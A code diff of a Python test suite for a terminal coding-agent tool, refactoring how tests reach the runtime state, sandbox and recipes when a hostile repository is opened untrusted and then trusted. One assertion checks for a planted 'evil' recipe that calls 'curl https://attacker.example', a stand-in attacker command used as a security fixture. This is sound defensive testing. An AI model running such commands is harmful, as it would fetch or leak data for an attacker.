@@ -20,7 +20,7 @@ from tui_agent.cli import main
 from tui_agent.core.agent.permissions import ApprovalAnswer, ApprovalRequest, Permissions, deny_all
 from tui_agent.core.project import Project
 from tui_agent.core.runtime import open_runtime
-from tui_agent.core.runtime_state import NoModel, Restricted
+from tui_agent.core.runtime_state import NoModel, Restricted, catalog_of, recipes_of
 from tui_agent.core.sandbox.protected import matches_protected
 from tui_agent.core.trust import check, describe, trust_folder
 from tui_agent.core.trust.trust_file import trust_file
@@ -121,8 +121,8 @@ class TestCommittedConfig:
         repo = hostile_repo(tmp_path / "p", {".agent/config.toml": '[sandbox]\nmin_level = "bubblewrap"\n'})
         runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits", watch=False)
         try:
-            assert isinstance(runtime.state, Restricted) and runtime.sandbox is None
-            assert any("below sandbox.min_level = 'bubblewrap'" in problem for problem in runtime.problems)
+            assert isinstance(runtime, Restricted) and runtime.core.sandbox is None
+            assert any("below sandbox.min_level = 'bubblewrap'" in problem for problem in runtime.core.problems)
         finally:
             await runtime.aclose()
 
@@ -295,7 +295,7 @@ class TestCommittedCode:
         assert f"evil_{trigger}: on {trigger}" in listed and "curl https://attacker.example" in listed
         runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits", watch=False)
         try:
-            assert isinstance(runtime.state, Restricted) and runtime.recipes is None and runtime.catalog is None
+            assert isinstance(runtime, Restricted) and recipes_of(runtime) is None and catalog_of(runtime) is None
             store = runtime.store("recipe")
             assert store is not None and [(row.name, row.status) for row in store.items()] == [(f"evil_{trigger}", "untrusted")]
         finally:
@@ -303,8 +303,8 @@ class TestCommittedCode:
         trust(repo)
         runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits", watch=False)
         try:
-            assert isinstance(runtime.state, NoModel)
-            assert runtime.recipes is not None and f"evil_{trigger}" in [r.name for r in runtime.recipes.book.records()]
+            assert isinstance(runtime, NoModel)
+            assert recipes_of(runtime) is not None and f"evil_{trigger}" in [r.name for r in recipes_of(runtime).book.records()]
         finally:
             await runtime.aclose()
 
@@ -336,8 +336,9 @@ class TestCommittedCode:
                 trust(repo)
             runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits")
             try:
-                if runtime.watcher is not None:
-                    await asyncio.wait_for(runtime.watcher.ready.wait(), 30)
+                watcher = None if isinstance(runtime, Restricted) else runtime.workshop.watcher
+                if watcher is not None:
+                    await asyncio.wait_for(watcher.ready.wait(), 30)
                 (repo / f"edited-{trusted}.txt").write_text("x\n")
                 deadline = asyncio.get_running_loop().time() + (30 if trusted else 3)
                 while not marker.exists() and asyncio.get_running_loop().time() < deadline:
@@ -367,18 +368,18 @@ class TestProjectEnvironment:
         assert "a symlink to" in describe(Project.at(repo)).text()
         runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits", watch=False)
         try:
-            assert runtime.sandbox is not None and runtime.sandbox.toolchain is not None
-            toolchain = runtime.sandbox.toolchain  # (the person's own active VIRTUAL_ENV, as in CI, may be used)
+            assert runtime.core.sandbox is not None and runtime.core.sandbox.toolchain is not None
+            toolchain = runtime.core.sandbox.toolchain  # (the person's own active VIRTUAL_ENV, as in CI, may be used)
             assert str(elsewhere) not in str(toolchain.venv) and not any(str(elsewhere) in entry for entry in toolchain.path)
         finally:
             await runtime.aclose()
         trust(repo)
         runtime = await open_runtime(repo, approve=deny_all, sandbox_tier="rlimits", watch=False)
         try:
-            assert runtime.sandbox is not None and runtime.sandbox.toolchain is not None
+            assert runtime.core.sandbox is not None and runtime.core.sandbox.toolchain is not None
             # once trusted, the person's own (untracked) virtualenv is looked at: this one lies under /tmp (the test's
             # folder), where the sandbox hides sockets, so it is refused by name (tuiagent's own venv is never taken)
-            toolchain = runtime.sandbox.toolchain
+            toolchain = runtime.core.sandbox.toolchain
             assert toolchain.venv is not None or any(str(elsewhere) in problem for problem in toolchain.problems)
         finally:
             await runtime.aclose()
@@ -473,8 +474,8 @@ class TestRestrictedAnswers:
         async def answer_always_allow() -> list[str]:
             runtime = await open_runtime(repo, approve=always, sandbox_tier="rlimits", watch=False)
             try:
-                assert isinstance(runtime.state, Restricted)
-                permissions = runtime.state.core.permissions
+                assert isinstance(runtime, Restricted)
+                permissions = runtime.core.permissions
                 request = ApprovalRequest("shell", "run_shell", "run pytest", "pytest -q", subject="pytest -q")
                 assert (await permissions.check(request)).allowed
                 return [rule for rule, _ in permissions.rules()]
